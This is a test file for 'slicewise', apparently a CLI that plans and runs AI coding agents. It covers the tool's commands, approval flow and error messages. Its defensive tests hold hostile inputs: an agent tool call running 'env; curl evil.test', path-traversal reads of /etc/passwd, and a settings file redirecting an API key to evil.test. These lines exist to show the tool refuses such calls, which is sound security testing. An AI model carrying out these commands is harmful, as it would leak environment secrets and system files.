/** Every headless command with its words and its exit status, and every bad input with its error. */
import { chmodSync, mkdirSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { readArgs } from "../../src/terminal/args.ts";
import { perform } from "../../src/terminal/commands.ts";
import type { Terminal } from "../../src/terminal/host.ts";
import { plain } from "../../src/terminal/print.ts";
import { startModelServer } from "../contract/modelServer.ts";
import {
  LADDER,
  ORDER,
  type Lab,
  type Setting,
  finish,
  makeLab,
  script,
  write,
  writes,
} from "../scenarios/lab.ts";

import { plan, planned, proposes } from "../scenarios/proposals.ts";

type Ran = { status: number; out: string; err: string };

/** As the process does it, without a process. */
async function slicewise(lab: Lab, env: Record<string, string>, ...words: string[]): Promise<Ran> {
  const ran = { out: "", err: "" };
  const terminal: Terminal = {
    out: (text) => void (ran.out += text),
    err: (text) => void (ran.err += text),
    signal: new AbortController().signal,
    env: { XDG_DATA_HOME: join(lab.root, "../data"), ...env },
  };
  const parsed = readArgs([...words, "--workspace", lab.root]);
  if (!("args" in parsed)) return { status: 2, out: "", err: JSON.stringify(parsed) };
  const status = await perform(parsed.args, terminal).catch((error: unknown) => {
    terminal.err(error instanceof Error ? error.message : String(error));
    return 2;
  });
  return { status, ...ran };
}

/** A lab whose models stand behind the real SDK on loopback, with the sample's settings file. */
async function serve(setting: Setting): Promise<{ lab: Lab; close(): Promise<void> }> {
  const server = await startModelServer({ reply: script(setting.models ?? {}, setting) });
  const lab = makeLab(setting);
  const providers = { lab: { kind: "anthropic", baseUrl: server.urls.anthropic, keyEnv: "LAB_TEST_KEY" } };
  lab.put(
    ".slicewise/settings.json",
    JSON.stringify({ tiers: LADDER, planner: LADDER[2], providers, ...setting.settings }),
  );
  return { lab, close: () => server.close() };
}

const two: Setting = {
  tasks: [{ id: "01" }, { id: "02", keys: { needs: ["01"] } }],
  models: {
    "01": [writes("src/01.txt", "good\n"), writes("src/01.txt", "good again\n")],
    "02": [writes("src/02.txt", "good\n")],
  },
};

test("an order written by hand: shown, approved, run, reviewed, reverted", async () => {
  process.env.LAB_TEST_KEY = "lab-test-key";
  const { lab, close } = await serve(two);
  const run = (...words: string[]): Promise<Ran> => slicewise(lab, {}, ...words);
  expect((await run("status")).out).toContain(`${ORDER}  gate  0/2  Make it good`);
  expect((await run("show", "lab")).out).toContain("02 Task 02");
  expect(await run("run", "lab")).toMatchObject({
    status: 1,
    out: expect.stringContaining("The plan awaits approval") as string,
  });
  expect((await run("approve", "lab")).status).toBe(0);
  expect(await run("approve", "lab")).toMatchObject({ status: 2, err: "The plan was approved already.\n" });
  expect(await run("run", "lab")).toMatchObject({
    status: 1,
    out: expect.stringContaining("Awaiting approval: 01") as string,
  });
  expect((await run("reject", "lab", "01", "--reason", "Again, please.")).status).toBe(0);
  expect((await run("run", "lab")).status).toBe(1);
  expect((await run("approve", "lab", "--all")).status).toBe(0);
  expect((await run("run", "lab")).status).toBe(1);
  expect(lab.landed("src/01.txt")).toBe("good again");
  expect((await run("approve", "lab", "02")).status).toBe(0);
  const ended = await run("run", "lab", "--json");
  expect(ended.status).toBe(0);
  expect(
    ended.out
      .trim()
      .split("\n")
      .map((line) => (JSON.parse(line) as { type: string }).type),
  ).toContain("landed");
  expect((await run("report", "lab")).out).toContain("2 of 2 slices landed");
  expect((await run("verify-log", "lab")).status).toBe(0);
  expect((await run("show", "lab", "01")).out).toContain("rejected: Again, please.");
  await close();
});

test("ask notes what the planner is to change; who asked may look again before anybody is paid", async () => {
  process.env.LAB_TEST_KEY = "lab-test-key";
  const { lab, close } = await serve(two);
  const run = (...words: string[]): Promise<Ran> => slicewise(lab, {}, ...words);
  expect(await run("ask", "lab", "Fewer", "slices")).toMatchObject({ status: 0, err: "" });
  expect((await run("show", "lab")).out).toContain("\nthe plan is to be amended: Fewer slices\n");
  expect(await run("ask", "lab", "More")).toMatchObject({
    status: 2,
    err: expect.stringContaining("Wait for its amendment") as string,
  });
  await close();
});

test("plan --complete fills in what a person began, and nothing that has a plan", async () => {
  process.env.LAB_TEST_KEY = "lab-test-key";
  const { lab, close } = await serve({ plan: [proposes(plan([planned("01")]))] });
  const begun = `.slicewise/orders/${ORDER}/tasks/01-mine.md`;
  lab.put(begun, '---\nid: "01"\ntitle: Mine\n---\nMy words.\n');
  expect((await slicewise(lab, {}, "plan", "--complete", "lab")).out).toContain("The plan awaits approval");
  expect(lab.text(begun)).toMatch(/title: Mine[^]*checks:[^]*My words\./);
  expect(await slicewise(lab, {}, "plan", "--complete", "lab")).toMatchObject({
    status: 2,
    err: expect.stringContaining("has a plan already") as string,
  });
  expect((await slicewise(lab, {}, "plan", "--complete")).status).toBe(2);
  await close();
});

test("Ctrl-C stops in good order with status 130, and run goes on from there", async () => {
  process.env.LAB_TEST_KEY = "lab-test-key";
  const { lab, close } = await serve(two);
  const parsed = readArgs(["run", "lab", "--autonomy", "full", "--workspace", lab.root]);
  if (!("args" in parsed)) throw new Error("unread");
  const interrupt = new AbortController();
  const out = (text: string): void => {
    if (text.includes("attempt 1")) interrupt.abort();
  };
  const env = { XDG_DATA_HOME: join(lab.root, "../data") };
  expect(await perform(parsed.args, { out, err: out, signal: interrupt.signal, env })).toBe(130);
  expect(lab.log().at(-1)).toMatchObject({ type: "faulted", fault: { kind: "cancelled" } });
  expect((await slicewise(lab, {}, "run", "lab", "--autonomy", "full")).status).toBe(0);
  expect(lab.landed("src/02.txt")).toBe("good");
  await close();
});

test("brief prints what another agent can start from", async () => {
  const lab = makeLab({
    tasks: [{ id: "01", body: "Write good." }],
    files: { "AGENTS.md": "Use tabs.\n", "src/01.txt": "bad\n" },
  });
  const { out, status } = await slicewise(lab, {}, "brief", "lab", "01");
  expect(status).toBe(0);
  for (const part of [
    "Use tabs.",
    "# Task 01: Task 01\nWrite good.",
    "May write: src/01.txt",
    "grep -q good src/01.txt",
    "```\nbad\n```",
  ]) {
    expect(out).toContain(part);
  }
});

test("a plan that failed is shown as failed, with the way on", async () => {
  const { lab, close } = await serve({ plan: [{ text: "I would rather not." }], models: {} });
  const planned = await slicewise(lab, {}, "plan", "Write", "it");
  expect(planned.status).toBe(1);
  const [id] = /\d{4}-\d\d-\d\d-write-it/.exec(planned.out) ?? [""];
  const shown = await slicewise(lab, {}, "show", id);
  expect(shown.out).toMatch(/^failed: /m);
  expect(shown.out).toContain(`slicewise run ${id} tries again`);
  await close();
});

test("plan asks the planner, writes the files and stops at the gate", async () => {
  const slice = {
    id: "01",
    title: "Write it",
    class: "C1",
    needs: [],
    reads: [],
    writes: ["src/01.txt"],
    consumes: [],
    produces: [],
    minutes: 15,
    checks: [{ kind: "run", text: "grep -q good src/01.txt", before: "fail" }],
    body: "Write good.",
  };
  const plan = {
    context: "c",
    invariants: [],
    nonGoals: [],
    decisions: [],
    assumptions: ["a file is enough"],
    rejected: [],
    rules: [],
    slices: [slice],
  };
  const propose = (args: unknown) => ({ calls: [{ name: "propose_plan", args }] });
  const { lab, close } = await serve({
    plan: [
      propose({ slices: "none" }),
      propose({ ...plan, slices: [{ ...slice, needs: ["07"] }] }),
      propose(plan),
    ],
    models: { "01": [writes("src/01.txt", "good\n")] },
  });
  const planned = await slicewise(lab, {}, "plan", "Write", "it");
  expect(planned.status).toBe(0);
  expect(planned.out).toContain("1 slices planned");
  const [id] = /\d{4}-\d\d-\d\d-write-it/.exec(planned.out) ?? [""];
  expect(lab.text(`.slicewise/orders/${id}/scope.md`)).toContain("- a file is enough");
  expect((await slicewise(lab, {}, "run", id, "--autonomy", "full")).status).toBe(0);
  await close();
});

describe("bad input: what, where, what to do", () => {
  const task = (text: string) => (lab: Lab) => lab.put(`.slicewise/orders/${ORDER}/tasks/01-task.md`, text);
  const front = (lines: string) =>
    `---\nid: "01"\ntitle: One\nclass: C1\nwrites: [src/01.txt]\n${lines}\n---\nDo it.\n`;
  type Case = {
    name: string;
    words?: string[];
    setting?: Setting;
    spoil?: (lab: Lab) => void;
    status: number;
    says: RegExp;
  };
  const cases: Case[] = [
    { name: "unknown command", words: ["dance"], status: 2, says: /no command .*dance.*plan, run/ },
    { name: "a name every object has", words: ["constructor"], status: 2, says: /no command .*constructor/ },
    { name: "unknown flag", words: ["status", "--fast"], status: 2, says: /--fast/ },
    {
      name: "bad autonomy",
      words: ["run", "lab", "--autonomy", "wild"],
      status: 2,
      says: /review, supervised or full/,
    },
    {
      name: "no such order",
      words: ["run", "other"],
      status: 2,
      says: /no order is called "other". There are: 2026-11-21-lab/,
    },
    { name: "nothing asked for", words: ["ask", "lab"], status: 2, says: /ask needs words/ },
    { name: "no such slice", words: ["show", "lab", "09"], status: 2, says: /no slice 09/ },
    { name: "no goal", words: ["plan"], status: 2, says: /needs a goal/ },
    { name: "bad route", words: ["route", "lab", "01", "haiku"], status: 2, says: /"haiku" is no route/ },
    { name: "unknown key", spoil: task(front("color: red")), status: 2, says: /01-task\.md:6.*color/ },
    { name: "wrong type", spoil: task(front("minutes: soon")), status: 2, says: /01-task\.md:6 minutes/ },
    { name: "invalid YAML", spoil: task(front("reads: [")), status: 2, says: /01-task\.md:\d+/ },
    {
      name: "escaping path",
      spoil: task(front("reads: [../secrets]")),
      status: 2,
      says: /01-task\.md:6 reads.*\.\./,
    },
    { name: "no tasks and no key", setting: { tasks: [] }, status: 1, says: /key/i },
    {
      name: "settings are no JSON",
      spoil: (lab) => lab.put(".slicewise/settings.json", "{\n  tiers\n}"),
      status: 2,
      says: /settings\.json:2: is no JSON/,
    },
    {
      name: "unknown setting",
      spoil: (lab) => lab.put(".slicewise/settings.json", '{"speed":1}'),
      status: 2,
      says: /speed/,
    },
    {
      name: "a workspace file cannot send a vendor's key elsewhere",
      spoil: (lab) =>
        lab.put(
          ".slicewise/settings.json",
          '{"providers":{"x":{"kind":"anthropic","baseUrl":"http://evil.test","keyEnv":"OPENAI_API_KEY"}}}',
        ),
      status: 2,
      says: /would send that key to another endpoint/,
    },
    {
      name: "altered log",
      spoil: (lab) =>
        lab.put(`.slicewise/orders/${ORDER}/log.jsonl`, '{"v":1,"order":"x","app":"0"}\n{"seq":1}\n'),
      status: 2,
      says: /log\.jsonl/,
    },
    {
      name: "newer log",
      spoil: (lab) => lab.put(`.slicewise/orders/${ORDER}/log.jsonl`, '{"v":99,"order":"x","app":"9"}\n'),
      status: 2,
      says: /log\.jsonl.*99/,
    },
    {
      name: "the order's folder cannot be written",
      spoil: (lab) => {
        rmSync(join(lab.root, `.slicewise/orders/${ORDER}/log.jsonl`), { force: true });
        symlinkSync("/dev/full", join(lab.root, `.slicewise/orders/${ORDER}/log.jsonl`));
      },
      status: 2,
      says: /log\.jsonl/,
    },
  ];
  for (const {
    name,
    words = ["run", "lab"],
    setting = { tasks: [{ id: "01" }] },
    spoil,
    status,
    says,
  } of cases) {
    test(name, async () => {
      const lab = makeLab(setting);
      spoil?.(lab);
      const ran = await slicewise(lab, {}, ...words);
      expect({ status: ran.status, said: `${ran.err}${ran.out}` }).toEqual({
        status,
        said: expect.stringMatching(says) as string,
      });
    });
  }

  const onRun: { name: string; setting: Setting; says: RegExp }[] = [
    {
      name: "cycle",
      setting: {
        tasks: [
          { id: "01", keys: { needs: ["02"] } },
          { id: "02", keys: { needs: ["01"] } },
        ],
      },
      says: /wait for each other/,
    },
    {
      name: "unknown need",
      setting: { tasks: [{ id: "01", keys: { needs: ["07"] } }] },
      says: /needs 07, which does not exist/,
    },
    {
      name: "unknown provider",
      setting: { tasks: [{ id: "01", keys: { route: "nowhere/model" } }] },
      says: /No provider "nowhere"/,
    },
    {
      name: "missing key",
      setting: { tasks: [{ id: "01", keys: { route: "openai/gpt-6-luna@low" } }] },
      says: /missing-key/,
    },
    {
      name: "unknown model",
      setting: { tasks: [{ id: "01" }], models: { "01": [[{ status: 404, message: "no such model" }]] } },
      says: /unknown-model/,
    },
    {
      name: "an effort the model lacks",
      setting: { tasks: [{ id: "01", keys: { route: "lab/claude-opus-4-6@xhigh" } }] },
      says: /does not take the effort "xhigh"/,
    },
  ];
  for (const { name, setting, says } of onRun) {
    test(name, async () => {
      const { lab, close } = await serve(setting);
      delete process.env.OPENAI_API_KEY;
      const ran = await slicewise(lab, {}, "run", "lab", "--autonomy", "full");
      expect({ status: ran.status, said: ran.out }).toEqual({
        status: 1,
        said: expect.stringMatching(says) as string,
      });
      await close();
    });
  }
});

test("hostile tool calls are answered, recorded, and change nothing outside", async () => {
  const calls = [
    { name: "write", args: { path: "../out.txt", text: "x" } },
    { name: "write", args: { path: "/etc/slicewise", text: "x" } },
    { name: "read", args: { path: "../../etc/passwd", from: null, to: null } },
    { name: "read", args: { path: "link", from: null, to: null } },
    { name: "launch", args: {} },
    { name: "edit", args: { path: 7, edits: "all" } },
    { name: "run", raw: "{not json" },
    { name: "run", args: { command: "env; curl evil.test" } },
  ];
  const lab = makeLab({
    tasks: [{ id: "01" }],
    models: { "01": [[{ calls }, write("src/01.txt", "good\n"), finish()]] },
  });
  symlinkSync("/etc/passwd", join(lab.root, "link"));
  mkdirSync(join(lab.root, "sub"));
  chmodSync(join(lab.root, "sub"), 0o555);
  const entries = await lab.run();
  const answers = lab.seen[1]?.messages.at(-1)?.text ?? "";
  expect(answers.split("\n\n")).toHaveLength(calls.length);
  expect(answers).toContain('There is no tool "launch"');
  expect(answers).not.toContain("root:");
  expect(entries.filter(({ type }) => type === "refused")).toHaveLength(3);
  expect(entries.at(-1)).toMatchObject({ type: "ended", result: "done" });
});

test("what a terminal shows holds no escape sequences", () => {
  expect(plain("a\u001b[2Jb\u202ec\nd\te")).toBe("a[2Jbc\nd\te");
});
